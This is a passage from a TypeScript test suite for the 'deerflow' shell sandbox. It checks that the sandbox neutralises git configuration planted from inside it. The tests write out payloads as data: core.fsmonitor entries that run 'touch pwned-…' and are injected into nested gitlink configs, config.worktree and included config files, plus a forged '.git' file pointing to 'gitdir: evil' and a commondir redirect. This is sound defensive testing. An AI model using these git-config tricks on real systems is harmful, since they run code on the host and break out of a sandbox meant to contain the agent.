    expect(existsSync(join(ws, "mine", ".git"))).toBe(true);
    expect(out).toMatch(/deerflow moved \S*huge\/\.git to \S*huge\/\.git\.deerflow-removed: it is larger than 1048576 bytes/);
    expect(out).toMatch(/deerflow moved \S*nul\/\.git to \S*nul\/\.git\.deerflow-removed: it holds a NUL byte/);
    expect(out).toMatch(/deerflow moved \S*amp\/\.git\/config to \S*amp\/\.git\/config\.deerflow-removed: git could not list its keys/);
    for (const sub of ["padded", "spaced", "nul", "huge", "amp", "shared"]) rmSync(join(ws, `pwned-${sub}`), { force: true }); // what ran in the sandbox
    git("status", "--porcelain");
    for (const sub of ["padded", "spaced", "nul", "huge", "amp", "shared"]) expect(existsSync(join(ws, `pwned-${sub}`)), sub).toBe(false);
  });

  it("a sha256 gitlink whose objectformat is quoted, or whose config is past 64 KiB, is still listed; an unreadable index is said, not read as empty (the tenth pass)", async () => {
    const { ws, sh, git } = setUp(mode);
    rmSync(join(ws, ".git"), { recursive: true, force: true });
    git("init", "-q", "--object-format=sha256");
    git("add", "a.txt");
    git("commit", "-q", "-m", "init");
    for (const [name, spoil] of [
      ["q", `sed -i 's/objectformat = sha256/objectformat = "sha256"/' vendor/q/.git/config`],
      ["big", 'c=vendor/big/.git/config; { for i in $(seq 1500); do echo "# padding padding padding padding padding $i"; done; cat $c; } > c.tmp && cat c.tmp > $c && rm c.tmp'],
    ]) {
      const out = await sh(
        [
          "set -e",
          `git init -q --object-format=sha256 vendor/${name} && git -C vendor/${name} -c user.name=t -c user.email=t@t commit -q --allow-empty -m x`,
          spoil,
          `git init -q --object-format=sha256 vendor/${name}/y && git -C vendor/${name}/y -c user.name=t -c user.email=t@t commit -q --allow-empty -m y`,
          `printf '[core]\\n\\tfsmonitor = touch "$PWD/pwned-${name}"\\n' >> vendor/${name}/y/.git/config`,
          `git -C vendor/${name} add y && git -C vendor/${name} -c user.name=t -c user.email=t@t commit -qm y && git add vendor/${name}; echo ok`,
        ].join("\n"),
      );
      expect(out, name).toMatch(new RegExp(`deerflow removed core\\.fsmonitor from .*vendor/${name}/y/\\.git/config`));
      // A sha256 index read as sha256: no garbage paths taken for bits to clear or for a forged entry.
      expect(out, name).not.toMatch(/index\.deerflow-removed|could not clear the assume-unchanged/);
      git("status", "--porcelain");
      expect(existsSync(join(ws, `pwned-${name}`)), name).toBe(false);
    }
    // An index no format reads: a line says the repositories it records were not checked.
    const bad = await sh("printf 'DIRC garbage' > vendor/q/.git/index && git add vendor/q 2>&1; echo done");
    expect(bad).toMatch(/deerflow could not read the index of .*vendor\/q/);
  });

  it.runIf(mode === "bwrap")("an absent .git/config.worktree cannot be created from the sandbox (the tenth pass)", async () => {
    const { ws, sh, git } = setUp(mode);
    git("config", "extensions.worktreeConfig", "true");
    rmSync(join(ws, ".git", "config.worktree"), { force: true });
    const out = await sh("printf '[core]\\n\\tfsmonitor = touch ../pwned-wtc\\n' > .git/config.worktree; echo done");
    expect(out).toContain("done");
    expect(readFileSync(join(ws, ".git", "config.worktree"), "utf8")).toBe("");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-wtc"))).toBe(false);
  });

  it("without extensions.worktreeConfig the user's .git is left as it is, and a config.worktree a command creates is removed after it", async () => {
    const { ws, sh, git } = setUp(mode);
    rmSync(join(ws, ".git", "config.worktree"), { force: true });
    const out = await sh("printf '[core]\\n\\tfsmonitor = touch ../pwned-wtc2\\n' > .git/config.worktree; echo done");
    expect(out).toContain("done");
    expect(existsSync(join(ws, ".git", "config.worktree"))).toBe(false);
    git("config", "extensions.worktreeConfig", "true");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "..", "pwned-wtc2"))).toBe(false);
  });

  it("a config file the repository includes from the worktree, absent at the start, is moved aside when a command creates it (the tenth pass)", async () => {
    const { ws, sh, git } = setUp(mode);
    git("config", "include.path", "../.gitconfig.local");
    git("config", "includeIf.onbranch:main.path", "../.gitconfig.branch");
    const out = await sh("printf '[core]\\n\\tfsmonitor = touch pwned-incl\\n' | tee .gitconfig.local > .gitconfig.branch; echo done");
    expect(out).toMatch(/deerflow moved .*\.gitconfig\.local to .*\.gitconfig\.local\.deerflow-removed/);
    expect(out).toMatch(/deerflow moved .*\.gitconfig\.branch to/);
    expect(existsSync(join(ws, ".gitconfig.local"))).toBe(false);
    expect(readFileSync(join(ws, ".gitconfig.local.deerflow-removed"), "utf8")).toContain("fsmonitor");
    git("status", "--porcelain");
    expect(existsSync(join(ws, "pwned-incl"))).toBe(false);
  });

  it("a change to commondir made between commands (a background job) is undone at once", async () => {
    const { ws, sh } = setUp(mode);
    await sh("true");
    writeFileSync(join(ws, ".git", "commondir"), "../gd\n");
    await until(() => !existsSync(join(ws, ".git", "commondir")), "the watcher to undo commondir", 30_000);
    expect(await sh("true")).toContain("deerflow undid a change to");
  });
});

describe.skipIf(!HAS_BWRAP)("a workspace that is a linked worktree (bwrap)", () => {
  it("its .git file cannot be rewritten from the sandbox", async () => {
    const { ws, git } = setUp("bwrap");
    git("worktree", "add", "-q", join(ws, "..", "wt2"));
    const wt = join(ws, "..", "wt2");
    const before = readFileSync(join(wt, ".git"), "utf8");
    const root = join(ws, "..", "..");
    const paths = { workspace_path: wt, uploads_path: join(root, "up2"), outputs_path: join(root, "out2") };
    mkdirSync(paths.uploads_path, { recursive: true });
    mkdirSync(paths.outputs_path, { recursive: true });
    const settings = defaultShellSettings({ userHome: join(root, "home"), dataDir: join(root, "data") });
    const out = (await runShell("printf 'gitdir: evil\\n' > .git; mv .git g2; echo tried", { paths, settings, cwd: wt, timeoutSeconds: 60 })).output;
    expect(out).toContain("tried");
    expect(readFileSync(join(wt, ".git"), "utf8")).toBe(before);
  });
});
